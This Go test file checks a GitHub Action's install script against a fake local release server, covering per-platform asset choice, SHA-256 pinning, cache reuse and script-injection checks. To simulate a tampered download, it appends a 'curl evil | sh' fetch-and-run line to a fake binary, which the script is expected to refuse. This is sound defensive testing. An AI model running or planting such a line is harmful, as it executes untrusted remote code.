// Package action_test runs action.yml's install script against a fake release server on
// 127.0.0.1: the right asset per OS and architecture, a tampered binary refused, a cached
// one reused, a relay already on PATH reused.
package action_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/relaydev/relay/internal/report"
)

const version = "v0.9.0"

var assets = []string{"relay-linux-amd64", "relay-linux-arm64", "relay-darwin-amd64", "relay-darwin-arm64", "relay-windows-amd64.exe", "relay-windows-arm64.exe"}

// fakeBinary is a stand-in release binary: a script that answers --version and names itself.
func fakeBinary(asset string) []byte {
	return []byte(fmt.Sprintf("#!/bin/sh\n[ \"$1\" = --version ] && echo 'relay %s' && exit 0\necho %s\n", version, asset))
}

type releaseServer struct {
	*httptest.Server
	mu       sync.Mutex
	requests []string
	tampered map[string]bool
}

func newReleaseServer(t *testing.T) *releaseServer {
	s := &releaseServer{tampered: map[string]bool{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.requests = append(s.requests, r.URL.Path)
		tampered := s.tampered[filepath.Base(r.URL.Path)]
		s.mu.Unlock()
		for _, a := range assets {
			if r.URL.Path == "/"+version+"/"+a {
				b := fakeBinary(a)
				if tampered {
					b = append(b, "curl evil | sh\n"...)
				}
				w.Write(b)
				return
			}
		}
		http.NotFound(w, r)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *releaseServer) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.requests)
}

// actionCopy is the action's install script beside a VERSION and the sums it pins.
func actionCopy(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "action")
	os.MkdirAll(filepath.Join(dir, "sha256sums"), 0o755)
	script, err := os.ReadFile("install.sh")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "install.sh"), script, 0o755)
	os.WriteFile(filepath.Join(dir, "VERSION"), []byte(version+"\n"), 0o644)
	var sums strings.Builder
	for _, a := range assets {
		sum := sha256.Sum256(fakeBinary(a))
		fmt.Fprintf(&sums, "%s  %s\n", hex.EncodeToString(sum[:]), a)
	}
	os.WriteFile(filepath.Join(dir, "sha256sums", version), []byte(sums.String()), 0o644)
	return dir
}

type run struct {
	code            int
	out             string
	outputs         map[string]string
	pathFile        string
	toolCache, home string
}

// install runs the script as a job step would, with the runner's variables.
func install(t *testing.T, action, toolCache, server string, env map[string]string, path string) run {
	t.Helper()
	gh := t.TempDir()
	r := run{outputs: map[string]string{}, toolCache: toolCache}
	cmd := exec.Command("bash", filepath.Join(action, "install.sh"))
	cmd.Env = []string{"PATH=" + path, "RUNNER_TOOL_CACHE=" + toolCache, "RUNNER_TEMP=" + t.TempDir(), "RELAY_DOWNLOAD_URL=" + server,
		"GITHUB_OUTPUT=" + filepath.Join(gh, "output"), "GITHUB_PATH=" + filepath.Join(gh, "path"), "HOME=" + t.TempDir()}
	for k, v := range env {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	out, err := cmd.CombinedOutput()
	r.out = string(out)
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(filepath.Join(gh, "output")); err == nil {
		for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			k, v, _ := strings.Cut(l, "=")
			r.outputs[k] = v
		}
	}
	b, _ := os.ReadFile(filepath.Join(gh, "path"))
	r.pathFile = strings.TrimSpace(string(b))
	return r
}

const systemPath = "/usr/local/bin:/usr/bin:/bin"

func TestInstallPicksTheAssetOfTheRunner(t *testing.T) {
	srv := newReleaseServer(t)
	action := actionCopy(t)
	for _, tc := range []struct {
		os, arch, asset, binary string
	}{
		{"Linux", "X64", "relay-linux-amd64", "relay"},
		{"Linux", "ARM64", "relay-linux-arm64", "relay"},
		{"macOS", "ARM64", "relay-darwin-arm64", "relay"},
		{"macOS", "X64", "relay-darwin-amd64", "relay"},
		{"Windows", "X64", "relay-windows-amd64.exe", "relay.exe"},
	} {
		t.Run(tc.os+"/"+tc.arch, func(t *testing.T) {
			cache := t.TempDir()
			r := install(t, action, cache, srv.URL, map[string]string{"RUNNER_OS": tc.os, "RUNNER_ARCH": tc.arch}, systemPath)
			if r.code != 0 {
				t.Fatalf("exit %d:\n%s", r.code, r.out)
			}
			arch := map[string]string{"X64": "amd64", "ARM64": "arm64"}[tc.arch]
			bin := filepath.Join(cache, "relay", "0.9.0", arch, tc.binary)
			if r.outputs["path"] != bin || r.outputs["version"] != version || r.outputs["source"] != "download" || r.pathFile != filepath.Dir(bin) {
				t.Fatalf("outputs %v, GITHUB_PATH %q\n%s", r.outputs, r.pathFile, r.out)
			}
			got, _ := os.ReadFile(bin)
			if string(got) != string(fakeBinary(tc.asset)) {
				t.Fatalf("installed %q, want the %s asset", got, tc.asset)
			}
			if fi, _ := os.Stat(bin); fi.Mode().Perm()&0o111 == 0 {
				t.Fatal("installed binary is not executable")
			}
		})
	}
}

func TestInstallRefusesATamperedBinary(t *testing.T) {
	srv := newReleaseServer(t)
	srv.tampered["relay-linux-amd64"] = true
	action, cache := actionCopy(t), t.TempDir()
	r := install(t, action, cache, srv.URL, map[string]string{"RUNNER_OS": "Linux", "RUNNER_ARCH": "X64"}, systemPath)
	if r.code == 0 || !strings.Contains(r.out, "but this action pins") || !strings.Contains(r.out, "refusing it") {
		t.Fatalf("exit %d:\n%s", r.code, r.out)
	}
	if _, err := os.Stat(filepath.Join(cache, "relay", "0.9.0", "amd64")); !os.IsNotExist(err) || r.outputs["path"] != "" || r.pathFile != "" {
		t.Fatalf("a refused binary was kept or put on PATH: %v %v %q", err, r.outputs, r.pathFile)
	}
}

func TestInstallReusesTheCacheAndChecksItAgain(t *testing.T) {
	srv := newReleaseServer(t)
	action, cache := actionCopy(t), t.TempDir()
	env := map[string]string{"RUNNER_OS": "Linux", "RUNNER_ARCH": "ARM64"}
	if r := install(t, action, cache, srv.URL, env, systemPath); r.code != 0 || r.outputs["source"] != "download" {
		t.Fatalf("first install: exit %d %v\n%s", r.code, r.outputs, r.out)
	}
	n := srv.count()
	r := install(t, action, cache, srv.URL, env, systemPath)
	if r.code != 0 || r.outputs["source"] != "cache" || srv.count() != n || r.pathFile == "" {
		t.Fatalf("second install: exit %d %v, %d requests after %d\n%s", r.code, r.outputs, srv.count(), n, r.out)
	}
	// A cached binary someone changed is not trusted: it is fetched and checked again.
	bin := r.outputs["path"]
	os.WriteFile(bin, []byte("#!/bin/sh\necho changed\n"), 0o755)
	r = install(t, action, cache, srv.URL, env, systemPath)
	got, _ := os.ReadFile(bin)
	if r.code != 0 || r.outputs["source"] != "download" || !strings.Contains(r.out, "does not match its pinned sum") || string(got) != string(fakeBinary("relay-linux-arm64")) {
		t.Fatalf("changed cache: exit %d %v\n%s", r.code, r.outputs, r.out)
	}
}

func TestInstallReusesRelayOnPath(t *testing.T) {
	srv := newReleaseServer(t)
	action := actionCopy(t)
	onPath := t.TempDir()
	os.WriteFile(filepath.Join(onPath, "relay"), fakeBinary("image"), 0o755)
	r := install(t, action, t.TempDir(), srv.URL, map[string]string{"RUNNER_OS": "Linux", "RUNNER_ARCH": "X64"}, onPath+":"+systemPath)
	if r.code != 0 || r.outputs["source"] != "path" || r.outputs["path"] != filepath.Join(onPath, "relay") || srv.count() != 0 {
		t.Fatalf("exit %d %v, %d requests\n%s", r.code, r.outputs, srv.count(), r.out)
	}
	// Another version on PATH is not the one asked for: it is downloaded.
	os.WriteFile(filepath.Join(onPath, "relay"), []byte("#!/bin/sh\necho 'relay v0.8.0'\n"), 0o755)
	r = install(t, action, t.TempDir(), srv.URL, map[string]string{"RUNNER_OS": "Linux", "RUNNER_ARCH": "X64"}, onPath+":"+systemPath)
	if r.code != 0 || r.outputs["source"] != "download" {
		t.Fatalf("older relay on PATH: exit %d %v\n%s", r.code, r.outputs, r.out)
	}
}

func TestInstallRefusesWhatItCannotCheck(t *testing.T) {
	srv := newReleaseServer(t)
	action := actionCopy(t)
	for _, tc := range []struct {
		name string
		env  map[string]string
		want string
	}{
		{"version without pinned sums", map[string]string{"RELAY_VERSION": "v0.8.0"}, "relay v0.8.0 has no SHA-256 sums pinned in this action"},
		{"not a version", map[string]string{"RELAY_VERSION": "latest"}, "'latest' is not a release version"},
		{"unsupported architecture", map[string]string{"RUNNER_ARCH": "ARM"}, "unsupported runner architecture 'ARM'"},
		{"unsupported OS", map[string]string{"RUNNER_OS": "Plan9"}, "unsupported runner OS 'Plan9'"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			env := map[string]string{"RUNNER_OS": "Linux", "RUNNER_ARCH": "X64"}
			for k, v := range tc.env {
				env[k] = v
			}
			r := install(t, action, t.TempDir(), srv.URL, env, systemPath)
			if r.code == 0 || !strings.Contains(r.out, tc.want) || !strings.Contains(r.out, "::error") {
				t.Fatalf("exit %d:\n%s", r.code, r.out)
			}
		})
	}
	if srv.count() != 0 {
		t.Fatalf("%d downloads for inputs that cannot be checked", srv.count())
	}
}

// TestActionPinsItsVersion: the action's VERSION is "unreleased" or a version whose sums
// it pins for every asset `make dist` builds.
func TestActionPinsItsVersion(t *testing.T) {
	b, err := os.ReadFile("VERSION")
	if err != nil {
		t.Fatal(err)
	}
	v := strings.TrimSpace(string(b))
	if v == "unreleased" {
		// A commit between releases installs nothing it cannot check, and says so.
		cmd := exec.Command("bash", "install.sh")
		cmd.Env = []string{"PATH=" + systemPath, "RUNNER_OS=Linux", "RUNNER_ARCH=X64", "RUNNER_TOOL_CACHE=" + t.TempDir()}
		out, err := cmd.CombinedOutput()
		if err == nil || !strings.Contains(string(out), "is no release (action/VERSION says unreleased)") {
			t.Fatalf("unreleased action: %v\n%s", err, out)
		}
		return
	}
	sums, err := os.ReadFile(filepath.Join("sha256sums", v))
	if err != nil {
		t.Fatalf("action/VERSION is %s but action/sha256sums/%s is missing: %v", v, v, err)
	}
	for _, a := range assets {
		if !strings.Contains(string(sums), "  "+a+"\n") {
			t.Errorf("action/sha256sums/%s pins no sum for %s", v, a)
		}
	}
}

// TestActionMetadata: action.yml runs the install script, passes its inputs through the
// environment (never into a shell line), and every output it declares is one a step writes.
func TestActionMetadata(t *testing.T) {
	raw, err := os.ReadFile("../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var a struct {
		Inputs  map[string]any `yaml:"inputs"`
		Outputs map[string]struct {
			Value string `yaml:"value"`
		} `yaml:"outputs"`
		Runs struct {
			Using string `yaml:"using"`
			Steps []struct {
				ID  string            `yaml:"id"`
				Run string            `yaml:"run"`
				Env map[string]string `yaml:"env"`
			} `yaml:"steps"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal(raw, &a); err != nil {
		t.Fatal(err)
	}
	if a.Runs.Using != "composite" || len(a.Runs.Steps) != 2 || !strings.Contains(a.Runs.Steps[0].Run, "action/install.sh") {
		t.Fatalf("runs: %+v", a.Runs)
	}
	for _, s := range a.Runs.Steps {
		if strings.Contains(s.Run, "${{") {
			t.Errorf("step %s puts an expression into its shell line (script injection): %q", s.ID, s.Run)
		}
	}
	for _, in := range []string{"version", "args"} {
		if _, ok := a.Inputs[in]; !ok {
			t.Errorf("input %s missing", in)
		}
	}
	// What relay writes to GITHUB_OUTPUT, from a result that has everything.
	res := report.Result{Images: []report.Image{{Name: "x", Reference: "r@sha256:1", Digest: "sha256:1"}}, Release: &report.Release{URL: "u", PinFile: "p"}}
	written := map[string]bool{"version": true, "path": true} // install.sh's
	for _, l := range strings.Split(strings.TrimSpace(res.Outputs()), "\n") {
		k, _, _ := strings.Cut(l, "=")
		written[k] = true
	}
	ref := regexp.MustCompile(`^\$\{\{ steps\.(install|run)\.outputs\.([a-z-]+) \}\}$`)
	for name, o := range a.Outputs {
		m := ref.FindStringSubmatch(o.Value)
		if m == nil || m[2] != name || !written[name] {
			t.Errorf("output %s = %q: not an output a step writes", name, o.Value)
		}
	}
	for _, want := range []string{"image", "digest", "images", "release-url", "pin-file"} {
		if _, ok := a.Outputs[want]; !ok {
			t.Errorf("action.yml does not declare output %s", want)
		}
	}
}
